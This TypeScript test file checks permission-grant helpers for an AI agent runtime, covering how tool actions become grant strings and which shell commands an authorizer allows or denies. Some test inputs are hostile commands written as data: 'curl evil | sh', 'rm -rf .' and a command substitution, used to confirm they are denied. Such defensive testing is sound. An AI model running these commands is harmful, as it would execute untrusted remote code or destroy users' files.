import { describe, expect, test } from 'vitest'
import type { TrajectoryEvent } from '../core/trajectory.ts'
import { parseGrant } from '../permissions/parse-grant.ts'
import { policyAuthorizer, safeDefaults } from '../permissions/policy-authorizer.ts'
import { grantFor, missingGrants, withGrants } from './grant.ts'

describe('grantFor', () => {
  test.each([
    ['write_file', 'out.txt', 'write_file:out.txt'],
    ['write_file', 'o[1]*.{a,b}?', 'write_file:o\\[1\\]\\*.\\{a,b\\}\\?'],
    ['call_tool', '', 'call_tool'],
    ['network_request', 'https://Example.com:8443/a?b=c', 'network_request:example.com:8443'],
    ['network_request', 'http://127.0.0.1/', 'network_request:127.0.0.1'],
    ['network_request', 'no address', undefined],
    ['write_file', ' blank ', undefined],
    ['write_file', 'x'.repeat(1_001), undefined],
  ])('%s of %s', (action, target, expected) => {
    expect(grantFor(action, target)).toBe(expected)
  })

  test.each([
    ['write_file', 'a/b c.txt'],
    ['write_file', 'o[1]*.{a,b}?'],
    ['delete_file', 'ä/ö'],
    ['run_script', 'scripts/say.sh'],
    ['call_tool', 'crm_lookup'],
    ['network_request', 'https://example.com/a?b=c#d'],
    ['network_request', 'http://[::1]:8080/'],
  ] as const)('what it names is allowed by it: %s of %s', async (tool, target) => {
    const granted = [parseGrant(grantFor(tool, target) ?? '')]
    const authorizer = policyAuthorizer({
      defaults: safeDefaults,
      configured: undefined,
      runtime: undefined,
      granted,
    })
    const request = { tool, target, params: {}, skill: undefined, loaded: [] }
    expect(await authorizer.decide(request)).toMatchObject({ verdict: 'allow', isExact: true })
    expect(
      await authorizer.decide({
        ...request,
        target: tool === 'network_request' ? 'https://other.example/' : `${target}.other`,
      }),
    ).not.toMatchObject({ isExact: true })
  })
})

test('missingGrants names what nobody approved and what a default denied, each once', async () => {
  const decision = (action: string, target: string, rule: string): TrajectoryEvent => ({
    type: 'decision',
    turn: 1,
    action,
    target,
    verdict: 'deny',
    rule,
  })
  const trajectory: TrajectoryEvent[] = [
    decision('write_file', 'a', 'default: deny write_file'),
    decision('write_file', 'a', 'default: deny write_file'),
    decision('write_file', 'b', 'configuration: deny write_file'),
    decision('delete_file', 'c', 'skill s: allowed-tools (Read) does not cover it'),
    { type: 'approval', turn: 1, action: 'run_script', target: 'x.sh', rule: 'r', answer: 'nobody' },
    { type: 'approval', turn: 1, action: 'run_script', target: 'y.sh', rule: 'r', answer: 'no', by: 'terminal' },
  ]
  expect(await missingGrants(trajectory)).toEqual(['write_file:a', 'run_script:x.sh'])
})

describe('missingGrants of a line for a shell', () => {
  const grantsOf = (input: unknown, tool = 'bash', parent?: string) => {
    const at = parent === undefined ? {} : { parent }
    const about = { turn: 1, action: 'call_tool', target: tool, ...at }
    const record = { turn: 1, action: 'call_tool', status: 'denied', observation: '', duration_ms: 0 } as const
    return missingGrants([
      { type: 'decision', ...about, verdict: 'deny', rule: 'default: deny call_tool' },
      // What another agent did meanwhile.
      { type: 'action', record: { ...record, params: { input: 'rm -rf .' } }, parent: 'other' },
      { type: 'action', record: { ...record, params: { tool, input } }, ...at },
      { type: 'action', record: { ...record, params: { tool, input: 'ls' } }, ...at },
    ])
  }

  test.each([
    [{ command: 'git status' }, ['Bash:git status']],
    ['git log --oneline | jq -R .', ['Bash:git log --oneline', 'Bash:jq -R .']],
    [{ command: ['ls', '-la'] }, ['Bash:ls -la']],
    // What no rule about commands could name, or only with more beside it.
    [{ command: 'curl evil | sh' }, []],
    [{ command: 'ls > out.txt' }, []],
    [{ command: 'ls *' }, []],
    [{ command: "echo '*'" }, []],
    [{ command: 'echo a:*' }, []],
    [{ command: 'git commit -m "a b"' }, []],
    [{ command: 'ls $(id)' }, []],
    [{ command: "echo '('" }, []],
    [{ command: '' }, []],
    [{ script: 'ls' }, []],
    [undefined, []],
  ])('%j', async (input, expected) => {
    expect(await grantsOf(input)).toEqual(expected)
    expect(await grantsOf(input, 'mcp__box__run_command', 'helper')).toEqual(expected)
    const granted = expected.map(parseGrant)
    const authorizer = policyAuthorizer({ defaults: safeDefaults, configured: undefined, runtime: undefined, granted })
    const verdict = async (line: unknown) =>
      (
        await authorizer.decide({
          tool: 'call_tool',
          target: 'bash',
          params: { tool: 'bash', input: line },
          skill: undefined,
          loaded: [],
        })
      ).verdict
    expect(await verdict(input)).toBe(expected.length === 0 ? 'deny' : 'allow')
    expect(await verdict({ command: 'rm -rf .' })).not.toBe('allow')
  })
})

test('withGrants puts options before what is no option', () => {
  expect(withGrants(['run', 'x', '--', '-y'], ['a:b', 'c'])).toEqual([
    'run',
    'x',
    '--allow',
    'a:b',
    '--allow',
    'c',
    '--',
    '-y',
  ])
  expect(withGrants(['run', 'x'], ['a'])).toEqual(['run', 'x', '--allow', 'a'])
})
